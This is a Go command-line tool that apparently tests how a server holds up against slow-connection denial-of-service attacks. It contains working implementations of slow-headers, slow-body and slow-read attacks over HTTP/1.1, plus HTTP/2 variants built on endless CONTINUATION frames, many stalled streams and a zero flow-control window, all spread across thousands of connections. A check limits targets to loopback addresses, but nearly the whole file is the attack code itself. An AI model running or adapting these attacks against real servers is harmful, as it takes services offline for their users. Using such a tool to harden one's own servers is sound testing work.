// Command slow holds a server's connections by doing everything slowly, over HTTP/1.1 and HTTP/2. It prints "open N" when
// all connections are made, goes on until its standard input ends, and prints "left N": those that the server had not
// ended. It talks to loopback addresses only.
package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// pause is the time between two signs of life.
const pause = 2 * time.Second

// streams is how many requests each HTTP/2 connection has under way.
const streams = 100

// ways are the attacks: each speaks on a connection until it ends.
var ways = map[string]func(net.Conn) error{
	"headers":    headers,
	"body":       body,
	"read":       read,
	"h2-headers": func(c net.Conn) error { return newH2(c).headers() },
	"h2-body":    func(c net.Conn) error { return newH2(c).body() },
	"h2-read":    func(c net.Conn) error { return newH2(c).read() },
}

func main() {
	addr := flag.String("addr", "", "the server, host:port on loopback")
	way := flag.String("way", "", "headers, body, read, h2-headers, h2-body or h2-read")
	n := flag.Int("n", 2000, "connections")
	rate := flag.Int("rate", 500, "new connections a second")
	flag.Parse()
	if err := run(*addr, *way, *n, *rate); err != nil {
		fmt.Fprintln(os.Stderr, "slow:", err)
		os.Exit(1)
	}
}

func run(addr, way string, n, rate int) error {
	to, err := netip.ParseAddrPort(addr)
	if err != nil || !to.Addr().IsLoopback() {
		return fmt.Errorf("%q is not a loopback address", addr)
	}
	attack := ways[way]
	if attack == nil || n < 1 || n > 10_000 || rate < 1 {
		return errors.New("needs -way and 1 to 10000 connections")
	}
	var left atomic.Int64
	var all sync.WaitGroup
	conns := make(chan net.Conn, n)
	for i := range n {
		all.Go(func() {
			c, err := dial(to, i, strings.HasPrefix(way, "h2-"))
			if err != nil {
				return
			}
			left.Add(1)
			conns <- c
			_ = attack(c) // however it ends: the server's doing
			left.Add(-1)
			c.Close()
		})
		time.Sleep(time.Second / time.Duration(rate))
	}
	fmt.Printf("open %d\n", n)
	io.Copy(io.Discard, os.Stdin)
	fmt.Printf("left %d\n", left.Load())
	for range len(conns) {
		(<-conns).Close()
	}
	all.Wait()
	return nil
}

// dial connects from one of sixteen addresses, so that no bound for one client is in the way.
func dial(to netip.AddrPort, i int, encrypted bool) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 1, byte(1+i%16))}}
	c, err := d.Dial("tcp", to.String())
	if err != nil {
		return nil, err
	}
	if err := c.(*net.TCPConn).SetReadBuffer(4 << 10); err != nil {
		return nil, err
	}
	if !encrypted {
		return c, nil
	}
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	return t, t.Handshake()
}

// drip sends text again and again until the server has enough of it.
func drip(c net.Conn, first, text string) error {
	go io.Copy(io.Discard, c)
	for next := first; ; next = text {
		if _, err := io.WriteString(c, next); err != nil {
			return err
		}
		time.Sleep(pause)
	}
}

func headers(c net.Conn) error {
	return drip(c, "GET /1k HTTP/1.1\r\nHost: bench\r\n", "X-Slow: 1\r\n")
}

func body(c net.Conn) error {
	return drip(c, "POST /1k HTTP/1.1\r\nHost: bench\r\nContent-Length: 1000000\r\n\r\n", "x")
}

func read(c net.Conn) error {
	if _, err := io.WriteString(c, "GET /4m HTTP/1.1\r\nHost: bench\r\n\r\n"); err != nil {
		return err
	}
	some := make([]byte, 32)
	for {
		if _, err := c.Read(some); err != nil {
			return err
		}
		time.Sleep(pause)
	}
}

// h2 is a client that speaks HTTP/2 frame by frame.
type h2 struct {
	c   net.Conn
	fr  *http2.Framer
	enc *hpack.Encoder
	buf bytes.Buffer
}

func newH2(c net.Conn) *h2 {
	h := &h2{c: c, fr: http2.NewFramer(c, nil)}
	h.enc = hpack.NewEncoder(&h.buf)
	return h
}

// greet sends the preface with the window of the client's streams, and reads whatever comes.
func (h *h2) greet(window uint32) error {
	if _, err := io.WriteString(h.c, http2.ClientPreface); err != nil {
		return err
	}
	go io.Copy(io.Discard, h.c)
	return h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

func (h *h2) begin(id uint32, method, path string, whole, end bool) error {
	h.buf.Reset()
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "bench"}, {":path", path}} {
		if err := h.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.buf.Bytes(), EndHeaders: whole, EndStream: end})
}

func (h *h2) headers() error {
	if err := errors.Join(h.greet(1<<16-1), h.begin(1, "GET", "/1k", false, true)); err != nil {
		return err
	}
	for {
		h.buf.Reset()
		err := h.enc.WriteField(hpack.HeaderField{Name: "x-slow", Value: "1", Sensitive: true})
		if err := errors.Join(err, h.fr.WriteContinuation(1, false, h.buf.Bytes())); err != nil {
			return err
		}
		time.Sleep(pause)
	}
}

func (h *h2) body() error {
	if err := h.greet(1<<16 - 1); err != nil {
		return err
	}
	for i := range uint32(streams) {
		if err := h.begin(2*i+1, "POST", "/1k", true, false); err != nil {
			return err
		}
	}
	for i := uint32(0); ; i++ {
		if err := h.fr.WriteData(2*(i%streams)+1, false, []byte("x")); err != nil {
			return err
		}
		time.Sleep(pause)
	}
}

func (h *h2) read() error {
	if err := h.greet(0); err != nil {
		return err
	}
	for i := range uint32(streams) {
		if err := h.begin(2*i+1, "GET", "/4m", true, true); err != nil {
			return err
		}
	}
	for {
		if err := h.fr.WritePing(false, [8]byte{}); err != nil {
			return err
		}
		time.Sleep(pause)
	}
}
